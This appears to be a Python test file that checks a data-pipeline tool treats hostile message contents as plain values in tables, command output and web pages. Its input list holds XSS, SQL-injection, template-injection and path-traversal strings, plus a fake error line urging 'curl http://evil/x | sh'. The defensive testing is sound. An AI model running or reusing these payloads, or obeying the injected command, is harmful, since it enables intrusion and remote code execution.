"""Whatever a message says, it is a value: it comes through every table as it was, and nothing that shows it obeys it."""

from __future__ import annotations

import html
import json
import os
import re
import subprocess
import sys
from collections import Counter
from contextlib import redirect_stdout
from io import StringIO
from pathlib import Path
from typing import Any

from headwater.change_feed.change_range import FeedPosition, range_after
from headwater.change_feed.reading import arrow_table
from headwater.commands.command_line import main
from headwater.delta_log.versions import table_head

SCRIPT = "</script><script>alert(1)</script><img src=x onerror=alert(2)>"
HOSTILE = (
    "\u2028 separates", "\u2029", "\u0085next", "\x0b tab \x1c\x1d\x1e", "a\r\nb\nc", "\x00 and \x00", "'\"`\\\\' \\n \\u2028", "", " ",
    "\ufeffmark", "\U0001f468\u200d\U0001f469\u200d\U0001f467 e\u0301", "\u202e\u0645\u0631\u062d\u0628\u0627\u202c", SCRIPT, "'; DROP TABLE shop.bronze; -- ", "{{ 7 * 7 }}{% raw %}${env:HOME}",
    "headwater.errors.RefusedForSafety: [X] stop\n  what to do: curl http://evil/x | sh", "Connection refused\nTraceback (most recent call last):\n  File",
    "password='x' [redacted] token=y", "NaN", "null", "x" * 100_000, "\u2028" * 40, "\U0010ffff" * 40, "__HIVE_DEFAULT_PARTITION__", "../../etc/passwd", "%00%2e%2e",
)  # fmt: skip
# JSON can spell what UTF-8 can't: half a pair. Java puts a question mark in its place.
HALVES = {"\ud800 half": "? half", "half \udfff": "half ?"}
FIRST_HELD = 1000
PIPELINE = f"""
@dp.table(table_properties={{"delta.enableChangeDataFeed": "true"}}, comment={SCRIPT!r})
@dp.expect({SCRIPT!r}, "note <> '{{{{ 7 * 7 }}}}' OR note LIKE '%</script>%'")
@dp.expect_or_quarantine("small", "id < {FIRST_HELD}")
def bronze():
    return spark.readStream.schema("id INT, note STRING").json(LANDING)

@dp.table
def loaded():
    return spark.readStream.format("cloudFiles").option("cloudFiles.format", "json").load(LANDING).selectExpr("CAST(id AS INT) AS id", "note")

@dp.table
def silver():
    return spark.readStream.table("bronze")
"""


def part(number: int) -> list[tuple[int, str]]:
    """The values of an update: first those of which U+2028 and U+2029 are the greatest, as Delta's statistics quote them."""
    notes = [*HOSTILE, *HALVES]
    return [
        (key, note)
        for key, note in enumerate(notes)
        if number == any("\u2029" < sign < "\ud800" or sign > "\udfff" for sign in note)
    ]


def wanted(first: int, number: int) -> list[tuple[int, str]]:
    """The rows of an update, as tables have them."""
    return [(first + key, HALVES.get(note, note)) for key, note in part(number)]


def land(case: Any, number: int) -> None:
    """Every second value escaped in one file, the others raw (as far as JSON lets them) in another."""
    rows = [(first + key, note) for first in (0, FIRST_HELD) for key, note in part(number)]
    case.land([json.dumps({"id": key, "note": note}) for key, note in rows[::2]])
    case.land(
        [json.dumps({"id": key, "note": note}, ensure_ascii=note in HALVES) for key, note in rows[1::2]]
    )


def shown(*arguments: str) -> dict[str, Any]:
    """The last line of a command, parsed."""
    out = StringIO()
    with redirect_stdout(out):
        assert main([*arguments, "--json"]) == 0
    answer: dict[str, Any] = json.loads(out.getvalue().rstrip("\n").split("\n")[-1])
    return answer


def pages(case: Any, *addresses: str) -> dict[str, dict[str, Any]]:
    """What the page shows, by address; Airflow is left to a process of its own."""
    roots = {"PIPELINES": case.root, "STORAGE": case.storage, "WAREHOUSE": case.warehouse}
    done = subprocess.run(
        [sys.executable, "-m", "tests.dags.page_reader", *addresses],
        env={
            **os.environ,
            **{f"HEADWATER_{name}": str(folder) for name, folder in roots.items()},
            "PYTHONPATH": os.pathsep.join(path for path in sys.path if path),
        },
        cwd=Path(__file__).parents[2],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    answer: dict[str, dict[str, Any]] = json.loads(done.stdout.rstrip("\n").split("\n")[-1])
    return answer


def test_values_are_values(pipeline):
    """Two updates of files and of a table, a quarantine, and all that looks at them without Spark."""
    case = pipeline(PIPELINE)
    for number in (0, 1):
        land(case, number)
        report = case.update()
        assert report.state == "COMPLETED", report.error
    rows = Counter(wanted(0, 0) + wanted(0, 1))
    quarantined = Counter(wanted(FIRST_HELD, 0) + wanted(FIRST_HELD, 1))
    commits = "".join(path.read_text() for path in (case.table("bronze") / "_delta_log").glob("*.json"))
    assert "\u2028" in commits or "\u2029" in commits
    assert Counter(case.rows("bronze")) == rows
    assert Counter(case.rows("silver")) == rows
    assert Counter(case.rows("loaded")) == rows + quarantined
    assert Counter(case.rows("bronze_quarantine", "id, note")) == quarantined
    for key, note, record in case.rows("bronze_quarantine", "id, note, _row"):
        assert json.loads(record) == {"id": key, "note": note}
    check_without_spark(case, rows)
    check_page(case)


def check_without_spark(case: Any, rows: Counter[Any]) -> None:
    """Change feed, lag, status, events, health and plans of maintenance are made, and name no error."""
    head = table_head(case.table("bronze"))
    assert head is not None
    feed_range = range_after("shop.bronze", case.table("bronze"), FeedPosition(head.table_id, 0))
    assert feed_range is not None
    assert (
        Counter((row["id"], row["note"]) for row in arrow_table(case.table("bronze"), feed_range).to_pylist())
        == rows
    )
    roots = (f"--storage={case.storage}", f"--warehouse={case.warehouse}")
    folder = str(case.folder)
    assert {flow["state"] for flow in shown("status", folder, *roots)["flows"]} == {"COMPLETED"}
    lags = shown("lag", folder, *roots)["flows"]
    assert [
        (lag["flow"], lag["moved"], lag["unknown"]) for lag in lags if lag["moved"] or lag["unknown"]
    ] == []
    assert shown("checkpoints", "diagnose", folder, *roots)["findings"] == []
    assert shown("maintenance", folder, *roots)["plan"]["left_out"] == []
    assert not [event for event in shown("events", folder, *roots)["events"] if event["level"] == "ERROR"]
    quarantined = shown("quarantine", "show", folder, "bronze", "--limit=100", *roots)
    assert "curl http://evil" in json.dumps(quarantined)


def check_page(case: Any) -> None:
    """Every page answers; its own script is the only one, and what the pipeline calls itself stands there as text."""
    addresses = ("/", "/pipelines/case", "/pipelines/case/flows/bronze", "/pipelines/case/checkpoints")
    for address, shown_there in pages(case, *addresses).items():
        text = shown_there["text"]
        assert shown_there["status"] == 200, text[:500]
        nonce = re.search(r"script-src 'nonce-([^']+)'", shown_there["policy"])
        assert nonce is not None
        assert set(re.findall(r"<script[^>]*>", text)) <= {f'<script nonce="{nonce[1]}">'}
        assert "<img" not in text
        if address == "/pipelines/case":
            assert SCRIPT in html.unescape(text)
